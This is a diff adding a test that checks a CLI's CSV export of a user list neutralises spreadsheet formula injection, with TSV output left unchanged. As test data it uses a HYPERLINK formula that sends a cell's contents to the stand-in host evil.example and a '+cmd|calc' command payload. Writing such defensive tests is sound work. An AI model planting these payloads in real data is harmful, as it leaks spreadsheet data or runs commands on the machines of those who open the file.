@@ -78,6 +78,19 @@ describe('users list', () => {
     );
   });
 
+  it('neutralises in CSV the cells a spreadsheet would run as formulas, as users export does', async () => {
+    // An invitee chooses their own name: an admin's spreadsheet must not run it.
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Ada")';
+    await w.runCli(['users', 'invite', 'eve@example.com', '--name', evil]);
+    await w.runCli(['users', 'invite', 'mal@example.com', '--name', '+cmd|calc']);
+    const csv = (await w.runCli(['users', 'list', '-o', 'csv', '--search', 'example.com', '--sort', 'email'])).stdout;
+    expect(csv).toContain(`eve@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Ada"")",member`);
+    expect(csv).toContain("mal@example.com,'+cmd|calc,member");
+    // Elsewhere the name is as it was given.
+    const tsv = (await w.runCli(['users', 'list', '--search', 'eve'])).stdout;
+    expect(tsv).toContain(`\t${evil}\t`);
+  });
+
   it('an empty list is success: a header on a pipe, a notice on a terminal, [] in JSON', async () => {
     expect(await w.runCli(['users', 'list', '--status', 'suspended'])).toMatchObject({
       code: 0,
